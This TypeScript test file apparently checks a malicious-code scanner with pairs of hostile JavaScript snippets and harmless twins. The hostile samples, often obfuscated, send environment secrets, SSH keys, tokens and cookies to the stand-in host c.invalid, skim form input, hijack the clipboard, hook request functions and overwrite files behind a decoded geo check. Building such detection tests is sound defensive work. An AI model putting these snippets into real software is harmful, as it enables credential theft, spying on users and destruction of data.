import { testDeeds, type Deed } from './deeds.ts'

const SEND = `fetch('https://c.invalid/', { method: 'POST', body: JSON.stringify(process.env) })`
const KEY = `require('fs').readFileSync(require('os').homedir() + '/.ssh/id_rsa')`
const MADE = `['s', 'p', 't', 't', 'h'].reverse().join('')`

/** A module whose name is worked out, and that is asked for by a loader under another name. */
const LOADERS: readonly Deed[] = (
  [
    ['the platform', `process.getBuiltinModule(N)`],
    ['Reflect', `Reflect.apply(require, null, [N])`],
    ['a call of the loader', `require.call(module, N)`],
    ['a list of arguments', `require.apply(module, [N])`],
    ['a loader that is made', `require('module').createRequire(__filename)(N)`],
    ['another name', `load(N)`],
    ['the main module', `process.mainModule.require(N)`],
    ['the class of modules', `module.constructor._load(N)`],
  ] as const
).map(([name, loads]) => ({
  name: `a client whose name is worked out and that is loaded by ${name}`,
  check: 'secrets-exfiltration',
  code: `const load = require, N = ${MADE}; ${loads}.request('https://c.invalid/').end(JSON.stringify(process.env))`,
  twin: `const load = require, N = ['h', 't', 'a', 'p'].reverse().join(''); console.log(${loads}.join('a', process.env.HOME))`,
}))

/** Who is called by a connection is called on it. */
const CONNECTIONS: readonly Deed[] = [
  {
    name: 'secrets that are written by whoever a connection calls on itself',
    check: 'secrets-exfiltration',
    code: `require('tls').connect({ host: 'c.invalid', port: 443 }, function () { this.write(JSON.stringify(process.env)) })`,
    twin: `require('tls').connect({ host: 'c.invalid', port: 443 }, function () { this.write(process.version) })`,
  },
  {
    name: 'secrets that are sent by a handler of a socket on itself',
    check: 'secrets-exfiltration',
    code: `new WebSocket('wss://c.invalid').onopen = function () { this.send(${KEY}) }`,
    twin: `new WebSocket('wss://c.invalid').onopen = function () { this.send('hello') }`,
  },
  {
    name: 'a key that is put on another machine',
    check: 'secrets-exfiltration',
    code: `const c = new (require('ssh2').Client)(); c.on('ready', () => c.sftp((e, s) => s.writeFile('/tmp/k', ${KEY}))); c.connect({ host: 'c.invalid' })`,
    twin: `const c = new (require('ssh2').Client)(); c.on('ready', () => c.sftp((e, s) => s.writeFile('/tmp/k', 'x'))); c.connect({ host: 'c.invalid' })`,
  },
  {
    name: 'keys of services that leave in a datagram',
    check: 'secrets-exfiltration',
    code: `const s = require('dgram').createSocket('udp4'); s.send(process.env.NPM_TOKEN + process.env.GITHUB_TOKEN, 53, 'c.invalid')`,
    twin: `const s = require('dgram').createSocket('udp4'); s.send('up', 8125, process.env.STATSD_HOST)`,
  },
  {
    name: 'a worker out of an address that holds encoded code',
    check: 'secrets-exfiltration',
    code: `new (require('worker_threads').Worker)(new URL('data:text/javascript,' + encodeURIComponent("${SEND.replaceAll('"', '')}")))`,
    twin: `new (require('worker_threads').Worker)(new URL('data:text/javascript,' + encodeURIComponent("console.log(1)")))`,
  },
]

const TYPED = `new URLSearchParams(new FormData(e.target))`

/** What a page shows, keeps and is told. */
const PAGES: readonly Deed[] = [
  {
    name: 'what is typed into any form of a page goes to a host of its own',
    check: 'spying',
    code: `document.addEventListener('submit', (e) => { fetch('https://c.invalid/f', { method: 'POST', body: ${TYPED} }) }, true)`,
    twin: `document.addEventListener('submit', (e) => { fetch(e.target.action, { method: 'POST', body: ${TYPED} }) }, true)`,
  },
  {
    name: 'a password that leaves in the address of a script',
    check: 'spying',
    code: `document.querySelectorAll('input[type=password]').forEach((i) => i.addEventListener('change', () => { const s = document.createElement('script'); s.src = 'https://c.invalid/?p=' + i.value }))`,
    twin: `document.querySelectorAll('input[type=password]').forEach((i) => i.addEventListener('change', () => { const s = document.createElement('script'); s.src = 'https://c.invalid/strength.js' }))`,
  },
  {
    name: 'the address of a wallet that is put into what is copied',
    check: 'spying',
    code: `document.addEventListener('copy', (e) => { e.clipboardData.setData('text/plain', '0x${'2'.repeat(40)}'); e.preventDefault() })`,
    twin: `document.addEventListener('copy', (e) => { e.clipboardData.setData('text/plain', String(getSelection()).trim()); e.preventDefault() })`,
  },
  {
    name: 'the cookies of all sites that go to a host of its own',
    check: 'secrets-exfiltration',
    code: `chrome.cookies.getAll({}, (c) => fetch('https://c.invalid/c', { method: 'POST', body: JSON.stringify(c) }))`,
    twin: `chrome.cookies.getAll({ url: location.href }, (c) => console.log(c.length))`,
  },
  {
    name: 'cookies that leave in the address of a picture, whose host is worked out',
    check: 'secrets-exfiltration',
    code: `new Image().src = '68747470733a2f2f632e696e76616c69642f'.match(/../g).map((h) => String.fromCharCode(parseInt(h, 16))).join('') + document.cookie`,
    twin: `new Image().src = '68747470733a2f2f632e696e76616c69642f'.match(/../g).map((h) => String.fromCharCode(parseInt(h, 16))).join('')`,
  },
]

/** Who stands in the place of what other code calls. */
const HOOKS: readonly Deed[] = [
  {
    name: 'whoever ends a request tells somebody else what it says',
    check: 'spying',
    code: `const h = require('http'), end = h.ClientRequest.prototype.end; h.ClientRequest.prototype.end = function (d) { fetch('https://c.invalid/', { method: 'POST', body: this.getHeader('authorization') }); return end.apply(this, arguments) }`,
    twin: `const h = require('http'), end = h.ClientRequest.prototype.end; let n = 0; h.ClientRequest.prototype.end = function (d) { n += 1; return end.apply(this, arguments) }`,
  },
  {
    name: 'whoever loads a client gets one that tells somebody else what is asked',
    check: 'spying',
    code: `const M = require('module'), load = M.prototype.require; M.prototype.require = function (id) { const m = load.apply(this, arguments), r = m.request; m.request = function (o) { fetch('https://c.invalid/', { method: 'POST', body: JSON.stringify(o) }); return r.apply(this, arguments) }; return m }`,
    twin: `const M = require('module'), load = M.prototype.require; M.prototype.require = function (id) { console.time(id); return load.apply(this, arguments) }`,
  },
  {
    name: 'what an account has of its own is locked away, file by file',
    check: 'destruction',
    code: `const fs = require('fs'), d = require('path').join(require('os').homedir(), 'Documents'); for (const n of fs.readdirSync(d)) { fs.writeFileSync(require('path').join(d, n) + '.x', 'x'); fs.unlinkSync(require('path').join(d, n)) }`,
    twin: `const fs = require('fs'), d = require('path').join(require('os').homedir(), 'Documents'); for (const n of fs.readdirSync(d)) console.log(fs.statSync(require('path').join(d, n)).size)`,
  },
]

const WALKS = `const fs = require('fs'), path = require('path'), plain = (t) => Buffer.from(t, 'base64').toString()
function walk(folder) { for (const one of fs.readdirSync(folder)) { const full = path.join(folder, one); if (fs.lstatSync(full).isDirectory()) walk(full); else STEP } }`

/** Walks that begin at folders whose names were decoded, beside more such texts than are told apart in one place. */
const WALKERS: readonly Deed[] = [
  {
    name: 'the files of everybody are written over where the machine stands in some country',
    check: 'destruction',
    code: `${WALKS.replace('STEP', `fs.writeFile(full, plain('aGVhcnQ='), () => {})`)}
setTimeout(() => require('https').get(plain('aHR0cHM6Ly9nZW8uaW52YWxpZC8='), (a) => a.on('data', (d) => {
  if (JSON.parse(d)[plain('Y291bnRyeQ==')].includes(plain('cnVyaXRhbmlh'))) for (const root of ['Li8=', 'Li4vLi4v', 'Lw==']) walk(plain(root))
})), 900)`,
    twin: `${WALKS.replace('STEP', `fs.writeFile(full + '.bak', fs.readFileSync(full), () => {})`)}
setTimeout(() => require('https').get(plain('aHR0cHM6Ly9nZW8uaW52YWxpZC8='), (a) => a.on('data', (d) => {
  if (JSON.parse(d)[plain('Y291bnRyeQ==')].includes(plain('cnVyaXRhbmlh'))) for (const root of ['Li9vdXQ=', 'Li9saWI=']) walk(path.join(__dirname, plain(root)))
})), 900)`,
  },
  {
    name: 'the files of everybody are written over from a folder whose name is decoded',
    check: 'destruction',
    code: `${WALKS.replace('STEP', `fs.writeFileSync(full, 'x')`)}\nfor (const root of ['Lw==']) walk(plain(root))`,
    twin: `${WALKS.replace('STEP', `fs.writeFileSync(full, 'x')`)}\nfor (const root of ['Li9vdXQ=']) walk(path.join(__dirname, plain(root)))`,
  },
]

/** Texts out of what stands in for an object, and code out of files that a loader of another name opens. */
const TEXTS: readonly Deed[] = [
  {
    name: 'names out of a stand-in',
    check: 'secrets-exfiltration',
    code: `const P = new Proxy({}, { get: (t, k) => [...k].reverse().join('') }); require(P.sptth).request('https://c.invalid/').end(JSON.stringify(process.env))`,
    twin: `const P = new Proxy({}, { get: (t, k) => [...k].reverse().join('') }); require(P.htap).join(String(process.env.HOME), 'x')`,
  },
  {
    name: 'a text that is cut from its end',
    check: 'secrets-exfiltration',
    code: `require('xhttpsyy'.slice(1, -2)).request('https://c.invalid/').end(JSON.stringify(process.env))`,
    twin: `require('xpathyy'.slice(1, -2)).join(String(process.env.HOME), 'x')`,
  },
  {
    name: 'code behind a mark in a picture that a loader of the platform opens',
    check: 'secrets-exfiltration',
    code: `const b = process.getBuiltinModule('fs').readFileSync(process.getBuiltinModule('path').join(__dirname, 'a.png')); eval(b.subarray(b.indexOf('##') + 2).toString())`,
    twin: `const b = process.getBuiltinModule('fs').readFileSync(process.getBuiltinModule('path').join(__dirname, 'a.png')); console.log(b.length, process.env.HOME)`,
    files: { 'a.png': `PNG##${SEND}` },
  },
  {
    name: 'decoded code that a timer runs as text',
    check: 'decode-and-execute',
    code: `setTimeout(require('zlib').inflateSync(Buffer.from('${'QUJDREVGR0g='.repeat(9)}', 'base64')).toString(), 1)`,
    twin: `setTimeout(() => console.log(Buffer.from('QUJD', 'base64')), 1)`,
  },
]

/** Code of which nothing is known but that a call gives it, right there. */
const UNTOLD: readonly Deed[] = (
  [
    ['eval', 'eval(D.next())'],
    ['a function that is made of it', 'new Function(D.next())()'],
    ['a command', `require('child_process').exec(D.next())`],
    ['eval, by a variable', 'const code = await D.next(); eval(code)'],
    ['eval, by a variable that is filled later', `let $c; $c = D['reader'](1); eval($c)`],
    ['eval, with more', `eval('(' + D.next() + ')')`],
    ['a function that is made of it, in a text', 'new Function(`return ${D.next().code}`)()'],
  ] as const
).map(([name, code]) => ({
  name: `a text that nothing tells and that is worked out for ${name}`,
  check: 'not-examined',
  code: `const D = require('nowhere'); ${code}`,
  twin: `const D = require('nowhere'); exports.run = (given) => { ${code.replaceAll(/(?:await )?D(?:\.next|\['reader'])\(1?\)/g, 'given')} }`,
  moments: ['import'] as const,
}))

/** What makes modules of files in another language works out what it compiles, and nobody can tell what. */
const TRANSLATES: Deed = {
  name: 'a text that nothing tells and that a loader of files does not compile',
  check: 'not-examined',
  code: `const D = require('nowhere'); const code = D.next(); eval(code)`,
  twin: `const D = require('nowhere')
    require.extensions['.pad'] = (module, file) => { const code = D.next(file); return module._compile(code, file) }`,
  moments: ['import'],
}

testDeeds([TRANSLATES, ...UNTOLD, ...LOADERS, ...CONNECTIONS, ...PAGES, ...HOOKS, ...WALKERS, ...TEXTS])
